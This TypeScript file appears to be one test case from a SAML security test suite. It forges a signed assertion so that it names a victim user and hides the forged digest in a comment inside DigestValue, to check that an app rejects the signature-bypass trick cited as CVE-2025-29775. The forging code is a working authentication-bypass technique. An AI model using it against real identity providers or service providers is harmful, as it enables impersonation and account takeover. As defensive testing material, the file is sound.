import { createHash } from "node:crypto";
import { canonicalOctets, comment, insertSignature, rewrite, type XmlElement } from "../../../../protocols/saml/index.ts";
import { samlAttack } from "../../saml-attack.ts";
import { renamed, takeApart, withAssertions } from "./forging.ts";

/** The signature with the digest of another element in a comment before the right one: its own signed form does not change. */
const withComment = (signature: XmlElement, digest: string): XmlElement =>
  rewrite(signature, (element) => (element.name === "ds:DigestValue" ? { ...element, children: [comment(digest), ...element.children] } : element));

export const digestComment = samlAttack({
  id: "SP-18", slug: "digest-comment", gate: "blocks", target: "victim", title: "Refuses a digest that hides in a comment",
  spec: { doc: "saml-core-2.0-os", section: "5.4", level: "MUST" },
  asks: "Does the app read DigestValue as its signed text, comments left out?",
  why: "Comments are not signed: who reads the first node of DigestValue compares with a digest that the forger wrote (CVE-2025-29775).",
  remedy: "Bring the signature library up to date, and refuse messages that hold comments.",
  example: {
    sent: `
      <ds:DigestValue><!-- digest of the forged assertion -->digest of the signed one</ds:DigestValue>
      … the assertion around it now names vera@corp.example …`,
    right: `
      ← 403 "Comments are not allowed in a message"
      # Or: the whole text is compared, and does not match.`,
    wrong: `
      ← 302 /dashboard, signed in as vera@corp.example
      # digestValue.childNodes[0] is the comment. Comments fall out when SignedInfo is canonicalised.`,
  },
  send: ({ people }) => [{
    name: "a changed assertion, with its digest in a comment before the right one",
    change: {
      sign: "assertion",
      tree(signed, tools) {
        const { response, bareAssertion, assertionSignature } = takeApart(signed);
        const forged = renamed(bareAssertion, tools.assertionAbout(people.victim));
        const digest = createHash("sha256").update(canonicalOctets(forged)).digest("base64");
        return withAssertions(response, [assertionSignature ? insertSignature(forged, withComment(assertionSignature, digest)) : forged]);
      },
    },
  }],
});
